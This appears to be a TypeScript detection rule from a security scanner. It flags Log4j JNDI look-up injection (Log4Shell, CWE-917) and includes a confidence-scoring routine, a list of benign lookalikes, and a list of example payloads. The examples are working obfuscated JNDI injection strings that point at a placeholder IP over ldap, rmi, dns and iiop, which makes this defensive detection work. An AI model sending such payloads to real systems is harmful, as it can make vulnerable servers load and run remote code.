import { lookupGrammar } from '../../grammars/template/lookup.ts';
import { confidence } from '../../placement/confidence.ts';
import { strongest } from '../../placement/evidence.ts';
import { isWord } from '../../text/char-class.ts';
import type { ValueRule } from '../rule.ts';

/** `${jndi:ldap://…}` and all that Log4j makes into it. */
export const lookup: ValueRule = {
  id: 'jndi.lookup',
  cwe: 'CWE-917',
  severity: 'critical',
  score: confidence.certain,
  message: 'is a JNDI look-up once a logger has resolved what is nested in it',
  trigger: { literals: [['{'], ['jndi', ':-', 'lower:', 'upper:', 'date:']] },
  judge: (subject) => {
    const reading = subject.tokens(lookupGrammar);
    if (!reading.complete) subject.incomplete('tokens');
    return strongest(reading.lookups, (one) => {
      const at = one.resolved.indexOf('jndi:');
      if (at < 0) return 0;
      // The prefix of the look-up, or of one nested in it.
      const target = one.resolved.slice(at + 5).trimStart();
      const isStart = at === 0 || !isWord(one.resolved.charCodeAt(at - 1));
      return isStart ? scoreOf(target, one.inner > 0) : confidence.hint;
    });
  },
  examples: [
    '${jndi:ldap://203.0.113.5/a}',
    'Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}',
    '${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://203.0.113.5/a}',
    '${${env:X:-j}ndi${env:X:-:}${env:X:-d}ns://203.0.113.5}',
    '${jnd${upper:\u0131}:ldap://203.0.113.5/a}',
    "${${date:'j'}ndi:iiop://203.0.113.5/a}",
    '${${lower:${upper:${lower:j}}}ndi:ldap://203.0.113.5/a}',
    '${jndi:ldap://203.0.113.5/a',
    '{jnDi:ldap://203.0.113.5/a}',
    '{${upper:j}ndi:${lower:l}dap:${sys:file.separator}/203.0.113.5/a}',
    '${jndi${sys:path.separator}rmi:${sys:file.separator}/203.0.113.5/a}',
  ],
  lookalikes: [
    '${name} has ${count} messages',
    'echo ${HOME:-/root} ${LANG:-C}',
    '${user.name:-guest}',
    '{jndi} is {count} letters, {lower:upper}',
    '{date:"2026-01-01",lower:1}',
    'A JNDI look-up begins with jndi: and a URL.',
    'What is ${jndi:ldap://...} in my logs? Am I hacked?',
    'The hole was about ${jndi:...} look-ups; please upgrade.',
    '`${date:YYYY}-${lower:x}`',
  ],
};

function scoreOf(target: string, isNested: boolean): number {
  if (ellipsis.test(target)) return confidence.trace;
  return isNested || target !== '' ? confidence.certain : confidence.hint;
}

/** Texts about look-ups name no host. */
const ellipsis = /^(?:[a-z]{3,6}:(?:\/\/)?)?(?:\.{3}|…)$/;
